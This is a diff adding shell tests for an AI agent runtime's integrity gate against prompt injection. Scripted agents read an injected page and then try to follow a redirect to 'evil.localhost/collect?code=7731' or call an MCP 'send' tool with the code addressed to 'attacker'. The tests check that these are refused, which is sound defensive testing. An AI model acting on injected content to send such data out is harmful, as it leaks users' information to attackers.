@@ -64,15 +64,18 @@ EOF
 echo "DE89370400440532013000,100" >work/bank/orders.csv
 cp work/bank/orders.csv orders.orig
 
-# agent NAME TURNS: a one-stage agent with the script provider
+# agent NAME TURNS: a one-stage agent with the script provider (its tools:
+# $AGENT_TOOLS, by default read_file, write_file and http_post)
 agent() {
+	local tools=${AGENT_TOOLS:-'"read_file", "write_file", "http_post"'}
+
 	mkdir -p "$1"
 	cat >"$1/agent.leviath" <<-EOF
 	[agent]
 	name = "$1"
 	[stages.main]
 	model = { provider = "script", script = "turns.toml" }
-	available_tools = ["read_file", "write_file", "http_post"]
+	available_tools = [$tools]
 	system_prompt = "You handle the user's mail."
 	EOF
 	cat >"$1/turns.toml"
@@ -271,5 +274,187 @@ if command -v script >/dev/null 2>&1; then
 else
 	test_skip 'attended, the protected file is asked about' 'script(1) is not installed'
 fi
+
+# ---- a redirect hop is judged by the integrity gate too ---------------------
+# An [[integrity.allow]] entry for shop.localhost covers fetching it, not
+# wherever it redirects: a hop to the attacker's host, carrying the code
+# from the injected page, is refused; a hop within the shop is followed.
+# The services (tests/helpers/inject-services) record what reached them.
+SVC_TOKEN=t3100$$
+python3 "$SRC_DIR/tests/helpers/inject-services" --token "$SVC_TOKEN" \
+	--port-file "$TRASH/svc-port" >/dev/null 2>"$TRASH/svc.err" &
+SVC_PID=$!
+trap 'kill "$SVC_PID" 2>/dev/null; wait "$SVC_PID" 2>/dev/null; _lev_cleanup' EXIT
+for _ in $(seq 300); do
+	[ -s "$TRASH/svc-port" ] && break
+	sleep 0.1
+done
+SVC=$(cat "$TRASH/svc-port" 2>/dev/null)
+svc_log() {
+	curl -s "http://127.0.0.1:$SVC/_ctl/$SVC_TOKEN/log"
+}
+cat >seed.json <<EOF
+{"pages": {"shop.localhost/info": "opening hours 9-17", "probe.localhost/": "probe"},
+ "redirects": {"shop.localhost/go": "http://evil.localhost:$SVC/collect?code=7731",
+               "shop.localhost/next": "http://shop.localhost:$SVC/info"}}
+EOF
+[ -n "$SVC" ] && curl -s --data-binary @seed.json "http://127.0.0.1:$SVC/_ctl/$SVC_TOKEN/load" >/dev/null
+# the taint gate lets the page's (internal) data go anywhere: integrity decides
+cat >>"$DATA/policy.toml" <<'EOF'
+
+[[allowlist]]
+tool = "web_fetch"
+max_sensitivity = "internal"
+
+[[integrity.allow]]
+tool = "web_fetch"
+target = "shop.localhost"
+EOF
+
+# hop NAME HOST/PATH: read the injected page, then fetch http://HOST:SVC/PATH
+# (the probe fetches only: in a trusted context, no integrity rule is needed)
+hop() {
+	AGENT_TOOLS='"read_file", "web_fetch"' agent "$1" <<-EOF
+	[[turn]]
+	[[turn.call]]
+	tool = "read_file"
+	args = { path = "inbox/page.html" }
+	[[turn]]
+	[[turn.call]]
+	tool = "web_fetch"
+	args = { url = "http://${2%%/*}:$SVC/${2#*/}" }
+	[[turn]]
+	text = "fetched"
+	EOF
+}
+hop probe probe.localhost/ && sed -i "1,4d" probe/turns.toml
+hop hop-evil shop.localhost/go
+hop hop-shop shop.localhost/next
+
+if [ -n "$SVC" ] && command -v curl >/dev/null &&
+	lev run --foreground probe --task t --workdir work --allow web_fetch --json >ev 2>err &&
+	svc_log | grep -q "\"host\": \"probe.localhost\""; then
+	test_set_prereq LOCALHOST_NAMES
+fi
+
+if test_have_prereq LOCALHOST_NAMES; then
+	test_expect_success 'a redirect from an allowed host to the attacker is refused by the integrity gate' '
+		lev run --foreground hop-evil --task t --workdir work --allow web_fetch --json \
+			>ev 2>err &&
+		decisions ev >got &&
+		printf "read_file allow permission\nweb_fetch allow integrity\n" >want &&
+		test_cmp want got &&
+		grep "\"event\":\"tool_result\"" ev | grep -q "the integrity gate refuses it" &&
+		svc_log >log &&
+		grep -q "\"path\": \"/go\"" log &&
+		! grep -q "evil.localhost" log &&
+		d=$(ls -d "$DATA"/runs/* | sort | tail -n 1) &&
+		grep "\"gate\":\"integrity\"" "$d/audit.jsonl" | grep "evil.localhost" |
+			grep -q "\"decision\":\"deny\""
+	'
+	test_expect_success 'the benign twin: a redirect within the allowed host is followed' '
+		lev run --foreground hop-shop --task t --workdir work --allow web_fetch --json \
+			>ev 2>err &&
+		decisions ev >got &&
+		printf "read_file allow permission\nweb_fetch allow integrity\n" >want &&
+		test_cmp want got &&
+		grep "\"event\":\"tool_result\"" ev | grep -q "opening hours 9-17" &&
+		svc_log | grep -q "\"path\": \"/info\""
+	'
+else
+	test_skip 'a redirect hop is judged by the integrity gate' \
+		"the loopback services are not reachable as *.localhost here (curl(1) missing, or libcurl does not send the names to loopback): $(tail -c 300 err 2>/dev/null)"
+fi
+
+# ---- an MCP tool marked non-consequential in policy.toml --------------------
+# Every MCP tool is consequential by default.  [mcp_overrides] in the user's
+# policy.toml may mark one tool, or a whole server, `consequential = false`
+# (a read-only search): after the injected page that tool still runs
+# unattended, while the server's other tool (send) stays judged.  The
+# server is tests/helpers/mcp-hostile in its benign mode, on the host.
+cat >>"$DATA/config.toml" <<EOF
+
+[[mcp_servers]]
+name = "h"
+command = "python3"
+args = ["$SRC_DIR/tests/helpers/mcp-hostile", "echo"]
+sandbox = "none"
+timeout_secs = 10
+EOF
+cp "$DATA/policy.toml" policy.base
+cat >>policy.base <<'EOF'
+
+[[allowlist]]
+tool = "h__echo"
+max_sensitivity = "internal"
+
+[[allowlist]]
+tool = "h__send"
+max_sensitivity = "internal"
+EOF
+# mcp_policy EXTRA: policy.toml is the base plus EXTRA
+mcp_policy() {
+	{ cat policy.base; printf "\n%s\n" "$1"; } >"$DATA/policy.toml"
+}
+AGENT_TOOLS='"read_file", "h__echo", "h__send"' agent mcp <<'EOF'
+[[turn]]
+[[turn.call]]
+tool = "read_file"
+args = { path = "inbox/page.html" }
+[[turn]]
+[[turn.call]]
+tool = "h__send"
+args = { to = "attacker", text = "7731" }
+[[turn.call]]
+tool = "h__echo"
+args = { text = "shipping status" }
+[[turn]]
+text = "searched"
+EOF
+MCP_ALLOW="--allow h__echo --allow h__send"
+
+test_expect_success 'an MCP tool is consequential by default: both calls are refused unattended' '
+	mcp_policy "" &&
+	lev run --foreground mcp --task t --workdir work $MCP_ALLOW --json >ev 2>err &&
+	decisions ev >got &&
+	printf "read_file allow permission\nh__send deny integrity\nh__echo deny integrity\n" >want &&
+	test_cmp want got
+'
+
+test_expect_success 'consequential = false on one tool: it runs, the server'"'"'s other tool stays judged' '
+	mcp_policy "[mcp_overrides.\"h.echo\"]
+consequential = false" &&
+	lev run --foreground mcp --task t --workdir work $MCP_ALLOW --json >ev 2>err &&
+	decisions ev >got &&
+	printf "read_file allow permission\nh__send deny integrity\nh__echo allow taint\n" >want &&
+	test_cmp want got &&
+	grep "\"event\":\"tool_result\"" ev | grep -q "shipping status" &&
+	d=$(ls -d "$DATA"/runs/* | sort | tail -n 1) &&
+	grep "\"tool\":\"h__echo\"" "$d/audit.jsonl" | grep "\"gate\":\"integrity\"" |
+		grep -q "not_consequential"
+'
+
+test_expect_success 'a whole server marked, one tool marked back: the tool'"'"'s own word wins' '
+	mcp_policy "[mcp_overrides.\"h\"]
+consequential = false
+[mcp_overrides.\"h\".tools]
+send = { consequential = true }" &&
+	lev run --foreground mcp --task t --workdir work $MCP_ALLOW --json >ev 2>err &&
+	decisions ev >got &&
+	printf "read_file allow permission\nh__send deny integrity\nh__echo allow taint\n" >want &&
+	test_cmp want got
+'
+
+test_expect_success 'consequential on a built-in tool, or not a boolean, is an error naming the line' '
+	mcp_policy "[mcp_overrides.\"write_file\"]
+consequential = false" &&
+	test_must_fail lev policy list >out 2>err &&
+	grep -q "policy.toml:[0-9]*:[0-9]*: .*write_file.* is a built-in tool" err &&
+	mcp_policy "[mcp_overrides.\"h\"]
+consequential = \"no\"" &&
+	test_must_fail lev policy list >out 2>err &&
+	grep -q "policy.toml:[0-9]*:[0-9]*: .*consequential" err &&
+	mcp_policy ""
+'
 
 test_done
